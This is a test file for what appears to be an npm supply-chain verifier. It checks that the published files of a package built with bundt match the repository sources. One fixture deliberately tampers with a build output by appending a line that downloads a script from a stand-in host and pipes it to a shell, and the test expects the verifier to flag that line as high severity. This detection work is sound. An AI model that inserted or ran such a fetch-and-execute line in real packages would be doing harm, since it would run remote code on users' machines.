/**
 * bundt 1.1.0–1.1.2 (escalade 3.1.2: `"build": "bundt"`, `"modes": {"sync": "src/sync.js", "default": "src/async.js"}`;
 * sync/index.js and .mjs were NPM_UNSOURCED_OUTPUT high, index.d.ts and sync/index.d.ts TARBALL_ONLY_UNEXPLAINED high).
 * The expected outputs below are what the real bundt 1.1.1 from the npm registry (rewrite-imports 2.0.3) wrote for
 * these sources, run once outside the repository; the test packs them with the real npm pack from a real git tag.
 * Twins: a line added to the CommonJS output, a declaration changed, bundt not pinned to a modelled version.
 */
import { join } from 'node:path';
import { mkdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { bundtCommonJs, bundtOutputs, bundtPath } from '../../src/profiles/npm-bundt.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { npmPack as npmPackIn } from '../helpers/npm-pack.js';
import { tempDir } from '../helpers/tmp.js';

const SOURCES: Record<string, string> = {
  "src/async.js": "import { dirname, resolve as res } from 'path';\nimport * as fs from 'fs';\nimport util, { promisify } from 'util';\nimport 'os';\n\nconst toStats = promisify(fs.stat);\n\nexport const VERSION = '1.0.0';\n\nexport async function climb(start, callback) {\n\tlet dir = res('.', start);\n\twhile (true) {\n\t\tif (await callback(dir, await toStats(dir))) return dir;\n\t\tif (dir === dirname(dir)) break;\n\t\tdir = dirname(dir);\n\t}\n}\n\nfunction helper() { return util.inspect(1); }\nexport { helper, toStats };\n\nexport default climb;\n",
  "src/sync.js": "import { dirname, resolve } from 'path';\nimport { readdirSync } from 'fs';\n\nexport default function (start, callback) {\n\tlet dir = resolve('.', start);\n\twhile (true) {\n\t\tif (callback(dir, readdirSync(dir))) return dir;\n\t\tif (dir === dirname(dir)) break;\n\t\tdir = dirname(dir);\n\t}\n}\n",
  "src/async.d.ts": "export default function (start: string, callback: (dir: string) => boolean): Promise<string | void>;\n",
  "src/sync.d.ts": "export default function (start: string, callback: (dir: string) => boolean): string | void;\n"
};
/** What the real bundt 1.1.1 (with rewrite-imports 2.0.3) wrote for SOURCES, run once outside the repository. */
const BUNDT_1_1_1: Record<string, string> = {
  "dist/index.js": "const { dirname, resolve:res } = require('path');\nconst fs = require('fs');\nconst util = require('util');\nconst { promisify } = util;\nrequire('os');\n\nconst toStats = promisify(fs.stat);\n\nconst VERSION = '1.0.0';\n\nasync function climb(start, callback) {\n\tlet dir = res('.', start);\n\twhile (true) {\n\t\tif (await callback(dir, await toStats(dir))) return dir;\n\t\tif (dir === dirname(dir)) break;\n\t\tdir = dirname(dir);\n\t}\n}\n\nfunction helper() { return util.inspect(1); }\n;\n\nmodule.exports = climb;\n\nexports.VERSION = VERSION;\nexports.climb = climb;\nexports.helper = helper;\nexports.toStats = toStats;",
  "dist/index.mjs": "import { dirname, resolve as res } from 'path';\nimport * as fs from 'fs';\nimport util, { promisify } from 'util';\nimport 'os';\n\nconst toStats = promisify(fs.stat);\n\nexport const VERSION = '1.0.0';\n\nexport async function climb(start, callback) {\n\tlet dir = res('.', start);\n\twhile (true) {\n\t\tif (await callback(dir, await toStats(dir))) return dir;\n\t\tif (dir === dirname(dir)) break;\n\t\tdir = dirname(dir);\n\t}\n}\n\nfunction helper() { return util.inspect(1); }\nexport { helper, toStats };\n\nexport default climb;\n",
  "index.d.ts": "export default function (start: string, callback: (dir: string) => boolean): Promise<string | void>;\n",
  "sync/index.js": "const { dirname, resolve } = require('path');\nconst { readdirSync } = require('fs');\n\nmodule.exports = function (start, callback) {\n\tlet dir = resolve('.', start);\n\twhile (true) {\n\t\tif (callback(dir, readdirSync(dir))) return dir;\n\t\tif (dir === dirname(dir)) break;\n\t\tdir = dirname(dir);\n\t}\n}\n",
  "sync/index.mjs": "import { dirname, resolve } from 'path';\nimport { readdirSync } from 'fs';\n\nexport default function (start, callback) {\n\tlet dir = resolve('.', start);\n\twhile (true) {\n\t\tif (callback(dir, readdirSync(dir))) return dir;\n\t\tif (dir === dirname(dir)) break;\n\t\tdir = dirname(dir);\n\t}\n}\n",
  "sync/index.d.ts": "export default function (start: string, callback: (dir: string) => boolean): string | void;\n"
};

const root = tempDir('distdiff-npm-bundt-');
const cacheDir = join(root, 'cache');

const pkg = (bundt: string) => ({
  name: 'climb',
  version: '1.0.0',
  module: 'dist/index.mjs',
  main: 'dist/index.js',
  types: 'index.d.ts',
  files: ['*.d.ts', 'dist', 'sync'],
  modes: { sync: 'src/sync.js', default: 'src/async.js' },
  scripts: { build: 'bundt', test: 'uvu test' },
  devDependencies: { bundt },
});

let n = 0;
async function release(bundt: string, built: Record<string, string>) {
  const dir = join(root, `pkg-${++n}`);
  const repo = makeRepo(dir);
  repo.commit({ 'package.json': JSON.stringify(pkg(bundt), null, 2) + '\n', ...SOURCES, '.gitignore': 'dist/\nsync/\n/index.d.ts\n' });
  repo.tag('v1.0.0');
  writeFiles(dir, built);
  const packs = join(root, `packs-${n}`);
  mkdirSync(packs);
  const r = await verify({ tarball: npmPackIn(dir, packs, join(root, 'npm-cache')), repo: dir, cacheDir });
  return { verdict: r.verdict, at: (path: string) => r.findings.find((f) => f.path === path)! };
}

describe('bundt outputs', () => {
  it("bundt 1.1.1's real outputs: NPM_BUILD_OUTPUT (proof bundt) from the mode's entry or declaration", async () => {
    const r = await release('1.1.1', BUNDT_1_1_1);
    expect(r.at('sync/index.js')).toMatchObject({ code: 'NPM_BUILD_OUTPUT', severity: 'info', evidence: { source: 'src/sync.js', proof: 'bundt' } });
    expect(r.at('sync/index.mjs')).toMatchObject({ code: 'NPM_BUILD_OUTPUT', evidence: { source: 'src/sync.js', proof: 'bundt' } });
    expect(r.at('sync/index.d.ts')).toMatchObject({ code: 'NPM_BUILD_OUTPUT', evidence: { source: 'src/sync.d.ts', proof: 'bundt' } });
    expect(r.at('index.d.ts')).toMatchObject({ code: 'NPM_BUILD_OUTPUT', evidence: { source: 'src/async.d.ts', proof: 'bundt' } });
    expect(r.at('dist/index.js')).toMatchObject({ code: 'NPM_BUILD_OUTPUT', evidence: { source: 'src/async.js', proof: 'bundt' } });
    expect(r.at('dist/index.mjs')).toMatchObject({ code: 'NPM_BUILD_OUTPUT', evidence: { source: 'src/async.js', proof: 'bundt' } });
    expect(r.verdict).toBe('explained');
  }, 60_000);

  it('twins stay high: a line added to the CommonJS output, a declaration changed, bundt not pinned to a modelled version', async () => {
    const r = await release('1.1.1', {
      ...BUNDT_1_1_1,
      'sync/index.js': BUNDT_1_1_1['sync/index.js']! + "\nrequire('child_process').exec('curl example.invalid | sh');\n",
      'sync/index.d.ts': BUNDT_1_1_1['sync/index.d.ts']!.replace('string | void', 'any'),
    });
    expect(r.at('sync/index.js')).toMatchObject({ severity: 'high' });
    expect(r.at('sync/index.js').code).not.toBe('NPM_BUILD_OUTPUT');
    expect(r.at('sync/index.d.ts')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.at('sync/index.mjs')).toMatchObject({ code: 'NPM_BUILD_OUTPUT', evidence: { proof: 'bundt' } });
    const r2 = await release('^1.1.1', BUNDT_1_1_1);
    expect(r2.at('sync/index.js')).toMatchObject({ code: 'NPM_UNSOURCED_OUTPUT', severity: 'high' });
    // not a bundt output here (no modelled version), but a byte-for-byte copy of the tracked src/async.d.ts: a
    // declaration copied under another name keeps its role (COPY_OF_TRACKED, low — npm26b), never a bundt proof
    expect(r2.at('index.d.ts')).toMatchObject({ code: 'COPY_OF_TRACKED', severity: 'low' });
    expect(r2.at('index.d.ts').evidence).not.toHaveProperty('proof');
  }, 120_000);
});

describe('the bundt model (pure)', () => {
  it("gives bundt 1.1.1's bytes for every output of the fixture", async () => {
    const out = await bundtOutputs(pkg('1.1.1'), async (p) => SOURCES[p]);
    expect([...out!.keys()].sort()).toEqual(Object.keys(BUNDT_1_1_1).sort());
    for (const [path, o] of out!) expect(o.text).toBe(BUNDT_1_1_1[path]);
  });

  it('places files as bundt does and converts only what it converts', () => {
    expect(bundtPath('./dist/index.js', 'sync')).toBe('sync/index.js');
    expect(bundtPath('dist/index.js', 'default')).toBe('dist/index.js');
    expect(bundtPath('index.d.ts', 'lite')).toBe('lite/index.d.ts');
    expect(bundtCommonJs("import a from 'a';\nexport let x = a;\n")).toBe("const a = require('a');\nlet x = a;\n\nexports.x = x;");
  });

  it('no model when an entry is untracked or two modes write one path differently', async () => {
    expect(await bundtOutputs(pkg('1.1.1'), async (p) => (p === 'src/sync.js' ? undefined : SOURCES[p]))).toBeUndefined();
    const clash = { ...pkg('1.1.1'), modes: { default: 'src/async.js', dist: 'src/sync.js' } };
    expect(await bundtOutputs(clash, async (p) => SOURCES[p])).toBeUndefined();
  });
});
